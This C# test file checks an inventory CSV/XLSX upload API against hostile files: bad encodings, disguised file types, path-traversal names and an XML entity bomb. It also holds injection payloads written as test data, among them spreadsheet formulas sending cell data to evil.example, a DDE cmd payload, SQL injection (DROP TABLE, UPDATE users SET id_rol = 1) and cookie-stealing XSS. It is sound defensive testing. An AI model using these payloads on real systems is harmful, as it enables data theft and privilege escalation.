using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json.Nodes;
using Nexus.Tests.Infrastructure;
using static Nexus.Tests.Hostile.HostileFiles;

namespace Nexus.Tests.Hostile;

/// <summary>Broken and hostile files that are not workbooks: CSV text, wrong types behind an extension, names, sizes and encodings.</summary>
public static class HostileFileCases
{
    private static readonly HttpClient Storage = new();

    /// <summary>The seeded inventory with these items added or replaced (same part and location).</summary>
    public static Item[] Seeded(params Item[] changes) =>
        [.. HostileRun.SeededItems.Where(s => !changes.Any(c => c.PartNumber == s.PartNumber && c.Location == s.Location)), .. changes];

    public static IEnumerable<HostileCase> All =>
    [
        new("empty_file", run => run.FailsAsync(HostileFile.Of("vacio.csv", []), "vacío")),
        new("csv_header_only", run => run.FailsAsync(HostileFile.Of("encabezados.csv", Csv()), "no tiene filas de datos")),
        new("csv_missing_mapped_columns", run => run.FailsAsync(HostileFile.Of("corto.csv", "PARTE,PRECIO\nABC-123,10\n"), "Faltan columnas del mapeo")),
        new("csv_million_empty_rows", run => run.CompletesAsync(
            new HostileFile("vacias.csv", () => Repeat(Csv(), ",,,,,\n", 1_000_000, "XYZ 789,20,3,Sur,,\nXYZ 789,-1,3,Sur,,\n")),
            imported: 1, [(1_000_003, "Precio negativo")], Seeded(new Item("XYZ 789", "Sur", 20m, 3)))),
        new("csv_100_mb_single_cell", async run =>
        {
            var file = new HostileFile("celda.csv", () => Repeat(Csv() + "\"", "x", 100L * 1024 * 1024, "\",1,1,Centro,,\n"));
            await run.RefusedAsync(await run.PostFileAsync(file), HttpStatusCode.RequestEntityTooLarge, null, "excede el tamaño máximo de 8 MB");
            var history = await (await run.Client.GetAsync("/api/inventory/uploads")).JsonAsync();
            Assert.Equal("failed", history["items"]![0]!["status"]!.GetValue<string>());
        }),
        new("csv_record_over_the_limit", run => run.FailsAsync(
            HostileFile.Of("largo.csv", Csv("ABC-123,10,1,Centro,,\"" + new string('x', 100_000) + "\"")), "excede el máximo de 64 KB")),
        new("csv_valid_rows_then_an_oversized_record", run => run.FailsAsync(
            HostileFile.Of("casi.csv", Csv([.. Enumerable.Repeat("ABC-123,1,1,Centro,,", 2000), "\"" + new string('x', 100_000)])), "excede el máximo de 64 KB")),
        new("csv_more_rows_than_allowed", run => run.FailsAsync(
            new HostileFile("muchas.csv", () => Repeat(Csv(), "ABC-123,1,1,Centro,,\n", HostileFixture.MaxRows + 1, "")), "filas de datos; divídelo")),
        new("csv_unclosed_quote_swallows_the_rest", run => run.CompletesAsync(
            HostileFile.Of("comillas.csv", Csv("ABC-123,10,1,Centro,,", "\"XYZ 789,20,3,Sur,,")),
            imported: 1, [(3, "Falta precio")], Seeded(new Item("ABC-123", "Centro", 10m, 1)))),
        new("csv_invalid_utf8_is_read_as_windows_1252", run => run.CompletesAsync(
            HostileFile.Of("latin1.csv", [.. Encoding.UTF8.GetBytes(Csv()), .. Encoding.Latin1.GetBytes("ABC-123,10,1,Almacén,,\n")]),
            imported: 1, [], Seeded(new Item("ABC-123", "Almacén", 10m, 1)))),
        new("csv_overlong_utf8_sequences", run => run.CompletesAsync(
            HostileFile.Of("overlong.csv", [.. Encoding.UTF8.GetBytes(Csv()), .. "ABC"u8, 0xC0, 0xAF, 0xED, 0xA0, 0x80, .. "123,10,1,Centro,,\n"u8]),
            imported: 0, [(2, "no encontrado en el catálogo")], Seeded())),
        new("csv_utf8_bom_then_invalid_bytes", run => run.FailsAsync(
            HostileFile.Of("bom.csv", [0xEF, 0xBB, 0xBF, .. Encoding.UTF8.GetBytes(Csv("ABC-123,10,1,Centro,,")), .. "XYZ 789,20,3,S"u8, 0xFF, .. "r,,\n"u8]),
            "la línea 3 tiene bytes que no son UTF-8")),
        new("csv_utf16_without_bom", run => run.FailsAsync(HostileFile.Of("utf16.csv", Encoding.Unicode.GetBytes(Csv("ABC-123,10,1,Centro,,"))), "no es texto CSV")),
        new("csv_nul_in_the_first_bytes", run => run.FailsAsync(HostileFile.Of("nul.csv", "PARTE\0,PRECIO,EXISTENCIAS\nABC-123,1,1\n"), "no es texto CSV")),
        new("csv_nul_inside_cells_is_dropped", async run =>
        {
            var upload = await run.CompletesAsync(
                HostileFile.Of("nul-tarde.csv", Csv([.. Enumerable.Repeat(",,,,,", 2000), "ABC\0-123,10,1,Cen\0tro,,\0", "\0=1+2,10,1,Centro,,"])),
                imported: 1, [(2003, "no encontrado")], Seeded(new Item("ABC-123", "Centro", 10m, 1)));
            var csv = await run.Client.GetStringAsync($"/api/inventory/uploads/{HostileRun.UploadId(upload)}/errors.csv");
            Assert.Contains(",'=1+2,", csv);
            Assert.DoesNotContain('\0', csv);
        }),
        new("csv_formula_injection_in_every_field", FormulaInjectionAsync),
        new("csv_sql_injection_in_every_field", SqlInjectionAsync),
        new("csv_script_injection_is_stored_as_inert_text", ScriptInjectionAsync),
        new("csv_negative_numbers", run => run.CompletesAsync(
            HostileFile.Of("negativos.csv", Csv("ABC-123,-1,1,Sur,,", "ABC-123,(5),1,Sur,,", "ABC-123,10,-3,Sur,,", "ABC-123,10,3,Sur,0,", "ABC-123,10,3,Sur,-2,")),
            imported: 0, [(2, "Precio negativo"), (3, "Precio negativo"), (4, "Existencia negativa"), (5, "Cantidad mínima no válida"), (6, "Cantidad mínima negativa")],
            Seeded())),
        new("csv_absurd_numbers", run => run.CompletesAsync(
            HostileFile.Of("absurdos.csv", Csv(
                "ABC-123,1e308,1,Sur,,", "ABC-123,99999999999999999999999999999999,1,Sur,,", "ABC-123,NaN,1,Sur,,", "ABC-123,Infinity,1,Sur,,",
                "ABC-123,0x10,1,Sur,,", "ABC-123,\"1,2,3\",1,Sur,,", "ABC-123,1.5.5,1,Sur,,", "ABC-123,١٢٣,1,Sur,,", "ABC-123,１２,1,Sur,,",
                "ABC-123,10000000,1,Sur,,", "ABC-123,10,2147483648,Sur,,", "ABC-123,10,1e5,Sur,,", "ABC-123,10,12.5,Sur,,", "ABC-123,10,1,Sur,99999999999,",
                "ABC-123,\"1,234.50\",7,Sur,,")),
            imported: 1,
            [
                (2, "Precio no válido"), (3, "Precio no válido"), (4, "Precio no válido"), (5, "Precio no válido"), (6, "Precio no válido"),
                (7, "Precio no válido"), (8, "Precio no válido"), (9, "Precio no válido"), (10, "Precio no válido"), (11, "Precio fuera de rango"),
                (12, "Existencia fuera de rango"), (13, "Existencia no válido"), (14, "Existencia no es un número entero"), (15, "Cantidad mínima fuera de rango"),
            ],
            Seeded(new Item("ABC-123", "Sur", 1234.50m, 7)))),
        new("csv_invisible_unicode_in_part_numbers", run => run.CompletesAsync(
            HostileFile.Of("invisibles.csv", Csv("ABC\u200B-123,10,1,Sur,,", "ＡＢＣ－１２３,10,1,Sur,,", "\u202EABC-123,10,1,Sur,,", "ABC\u00A0123,10,1,Sur,,")),
            imported: 1, [(2, "no encontrado"), (3, "no encontrado"), (4, "no encontrado")], Seeded(new Item("ABC-123", "Sur", 10m, 1)))),
        new("csv_part_number_of_5000_characters", async run =>
        {
            var upload = await run.CompletesAsync(HostileFile.Of("largo.csv", Csv(new string('A', 5000) + ",10,1,Sur,,")),
                imported: 0, [(2, "más de 100 caracteres")], Seeded());
            var raw = await run.ScalarAsync<int>("SELECT length(raw_values[1]) FROM inventory_upload_errors WHERE upload_id = @id", new { id = HostileRun.UploadId(upload) });
            Assert.Equal(500, raw);
        }),
        new("zip_named_csv", run => run.FailsAsync(HostileFile.Of("inventario.csv", Zip(("hola.txt", "hola"))), "en realidad un archivo comprimido")),
        new("pdf_named_csv", run => run.FailsAsync(HostileFile.Of("inventario.csv", "%PDF-1.7\n%âãÏÓ\n1 0 obj\n"), "no es texto CSV")),
        new("png_named_csv", run => run.FailsAsync(HostileFile.Of("inventario.csv", [0x89, .. "PNG\r\n"u8, 0x1A, 0x0A, 0, 0, 0, 0x0D, .. "IHDR"u8]), "no es texto CSV")),
        new("html_with_script_named_csv", run => run.FailsAsync(
            HostileFile.Of("inventario.csv", "<html><body><script>fetch('/api/auth/me')</script></body></html>"), "XML o HTML")),
        new("xml_entity_bomb_named_csv", run => run.FailsAsync(HostileFile.Of("inventario.csv", EntityBomb("<x>&lol9;</x>")), "DOCTYPE")),
        new("csv_text_named_xlsx", run => run.FailsAsync(HostileFile.Of("inventario.xlsx", Csv("ABC-123,10,1,Centro,,")), "no es un libro de Excel .xlsx válido")),
        new("ole_or_protected_workbook_named_xlsx", run => run.FailsAsync(
            HostileFile.Of("protegido.xlsx", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[504]]), "protegido con contraseña")),
        new("executable_extension", async run =>
            await run.RefusedAsync(await run.PostFileAsync(HostileFile.Of("inventario.exe", "MZ")), HttpStatusCode.BadRequest, "file", "Formato no admitido (.exe)")),
        new("double_extension", async run =>
            await run.RefusedAsync(await run.PostFileAsync(HostileFile.Of("inventario.csv.js", Csv())), HttpStatusCode.BadRequest, "file", "Formato no admitido (.js)")),
        new("no_extension", async run =>
            await run.RefusedAsync(await run.PostFileAsync(HostileFile.Of("inventario", Csv())), HttpStatusCode.BadRequest, "file", "sin extensión")),
        new("control_characters_in_file_name", async run =>
            await run.RefusedAsync(await run.PostFileAsync(HostileFile.Of("inv\u0007\u001b[2J.csv", Csv())), HttpStatusCode.BadRequest, "file", "caracteres de control")),
        new("file_name_of_300_characters", async run =>
            await run.RefusedAsync(await run.PostFileAsync(HostileFile.Of(new string('a', 296) + ".csv", Csv())), HttpStatusCode.BadRequest, "file", "excede 200 caracteres")),
        new("path_traversal_in_file_name", async run =>
        {
            var upload = await run.CompletesAsync(HostileFile.Of("../../../etc/cron.d/..\\inventario.csv", Csv("XYZ 789,20,3,Sur,,")),
                imported: 1, [], Seeded(new Item("XYZ 789", "Sur", 20m, 3)));
            Assert.Equal("inventario.csv", upload["filename"]!.GetValue<string>());
            var blob = await run.ScalarAsync<string>("SELECT blob_name FROM inventory_uploads WHERE id_upload = @id", new { id = HostileRun.UploadId(upload) });
            Assert.Matches($"^{run.Bodega.Id}/[0-9a-f]{{32}}\\.csv$", blob);
        }),
        new("sas_upload_whose_content_is_not_its_name", async run =>
        {
            var ticket = await RequestTicketAsync(run, "inventario.csv");
            await PutBlobAsync(ticket, new ByteArrayContent(Zip(("a.txt", "hola"))));
            var uploadId = ticket["upload_id"]!.GetValue<long>();
            Assert.Equal(HttpStatusCode.Accepted, (await run.Client.PostAsync($"/api/inventory/uploads/{uploadId}/complete", null)).StatusCode);
            var upload = await Inventory.HttpInventoryFixture.WaitForUploadAsync(run.Client, uploadId);
            Assert.Equal("failed", upload["status"]!.GetValue<string>());
            Assert.Contains("en realidad un archivo comprimido", upload["error_log"]!.GetValue<string>());
        }),
        new("sas_blob_over_the_limit", async run =>
        {
            var ticket = await RequestTicketAsync(run, "grande.csv");
            var big = new HostileFile("grande.csv", () => Repeat(Csv(), "ABC-123,10,1,Centro,,\n", HostileFixture.MaxUploadBytes / 20, ""));
            await PutBlobAsync(ticket, new ByteArrayContent(big.Bytes()));
            var uploadId = ticket["upload_id"]!.GetValue<long>();
            await run.RefusedAsync(await run.Client.PostAsync($"/api/inventory/uploads/{uploadId}/complete", null),
                HttpStatusCode.RequestEntityTooLarge, null, "excede el tamaño máximo");
            Assert.Equal("failed", (await (await run.Client.GetAsync($"/api/inventory/uploads/{uploadId}")).JsonAsync())["status"]!.GetValue<string>());
        }),
    ];

    /// <summary>"Billion laughs": ten entities of ten references each, expanding to 10^9 "lol"s if anything expanded them.</summary>
    public static string EntityBomb(string body)
    {
        var dtd = new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol0 \"lol\">\n");
        for (var i = 1; i <= 9; i++)
        {
            dtd.Append($" <!ENTITY lol{i} \"{string.Concat(Enumerable.Repeat($"&lol{i - 1};", 10))}\">\n");
        }
        return dtd.Append("]>\n").Append(body).ToString();
    }

    private static async Task FormulaInjectionAsync(HostileRun run)
    {
        var upload = await run.CompletesAsync(HostileFile.Of("formulas.csv", Csv(
                "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"clic\"\")\",10,1,Centro,,",
                "ABC-123,10,1,=1+1,,",
                "XYZ 789,+10,1,@SUM(A1:A9),,",
                "-2+3,10,1,Centro,,",
                "\t=cmd|' /C calc'!A0,10,1,Centro,,",
                "GT-100,10,1,Norte,,\"=IMPORTXML(CONCAT(\"\"http://evil.example/?\"\",A2),\"\"//a\"\")\"",
                "XYZ 789,\"\t=1+1\",1,Sur,,")),
            imported: 3, [(2, "no encontrado"), (5, "no encontrado"), (6, "no encontrado"), (8, "Precio no válido")],
            Seeded(new Item("ABC-123", "=1+1", 10m, 1), new Item("XYZ 789", "@SUM(A1:A9)", 10m, 1), new Item("GT-100", "Norte", 10m, 1)));

        // Formulas are data: the inventory holds the text as written, and errors.csv hands every cell back neutralised.
        var items = await (await run.Client.GetAsync("/api/inventory/items")).JsonAsync();
        Assert.Contains(items["items"]!.AsArray(), i => i!["warehouse_location"]!.GetValue<string>() == "=1+1");
        var csv = await run.Client.GetStringAsync($"/api/inventory/uploads/{HostileRun.UploadId(upload)}/errors.csv");
        var lines = csv.TrimStart('\uFEFF').Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(5, lines.Length);
        foreach (var line in lines[1..])
        {
            Assert.DoesNotMatch("(^|,)\"?[=+\\-@\t\r\0]", line);
            Assert.DoesNotContain('\0', line);
        }
        Assert.Contains(",\"'=HYPERLINK(", lines[1]);
        Assert.Contains(",'=cmd|", lines[3]);
        Assert.Contains(",'\t=1+1,", lines[4]);
    }

    private static async Task SqlInjectionAsync(HostileRun run)
    {
        var users = await run.ScalarAsync<long>("SELECT count(*) FROM users");
        var admins = await run.ScalarAsync<long>("SELECT count(*) FROM users WHERE id_rol = 1");
        await run.CompletesAsync(HostileFile.Of("sql.csv", Csv(
                "ABC-123'; DROP TABLE warehouse_inventory;--,10,1,Centro,,",
                "ABC-123,1; DELETE FROM users,1,Centro,,",
                "ABC-123,10,1 OR 1=1,Centro,,",
                "ABC-123,10,1,Centro,1; SELECT pg_sleep(30),",
                "ABC-123,10,4,'); DROP TABLE parts;--,1,' OR '1'='1",
                "XYZ 789,10,1,\"Sur\"\"; UPDATE users SET id_rol = 1;--\",,")),
            imported: 2,
            [(2, "no encontrado en el catálogo: ABC-123'; DROP TABLE"), (3, "Precio no válido"), (4, "Existencia no válido"), (5, "Cantidad mínima no válido")],
            Seeded(new Item("ABC-123", "'); DROP TABLE parts;--", 10m, 4), new Item("XYZ 789", "Sur\"; UPDATE users SET id_rol = 1;--", 10m, 1)));
        Assert.Equal(3, await run.ScalarAsync<long>("SELECT count(*) FROM parts"));
        Assert.Equal(users, await run.ScalarAsync<long>("SELECT count(*) FROM users"));
        Assert.Equal(admins, await run.ScalarAsync<long>("SELECT count(*) FROM users WHERE id_rol = 1"));
    }

    private static async Task ScriptInjectionAsync(HostileRun run)
    {
        await run.CompletesAsync(HostileFile.Of("script.csv", Csv(
                "\"\"\"><svg onload=alert(1)>\",10,1,Centro,,",
                "ABC-123,10,1,<script>alert(document.cookie)</script>,,<img src=x onerror=alert(1)>")),
            imported: 1, [(2, "no encontrado")], Seeded(new Item("ABC-123", "<script>alert(document.cookie)</script>", 10m, 1)));
        // Handed back as a JSON string, never as markup (the web pages insert API text as text nodes).
        var response = await run.Client.GetAsync("/api/inventory/items");
        Assert.Equal("application/json", response.Content.Headers.ContentType?.MediaType);
        var items = JsonNode.Parse(await response.Content.ReadAsStringAsync())!["items"]!.AsArray();
        Assert.Contains("<script>alert(document.cookie)</script>", items.Select(i => i!["warehouse_location"]!.GetValue<string>()));
    }

    private static async Task<JsonObject> RequestTicketAsync(HostileRun run, string fileName)
    {
        var response = await run.Client.PostAsJsonAsync("/api/inventory/uploads", new { filename = fileName });
        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        return await response.JsonAsync();
    }

    private static async Task PutBlobAsync(JsonObject ticket, HttpContent content)
    {
        using var put = new HttpRequestMessage(HttpMethod.Put, ticket["upload_url"]!.GetValue<string>()) { Content = content };
        put.Headers.Add("x-ms-blob-type", "BlockBlob");
        using var response = await Storage.SendAsync(put);
        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
    }
}
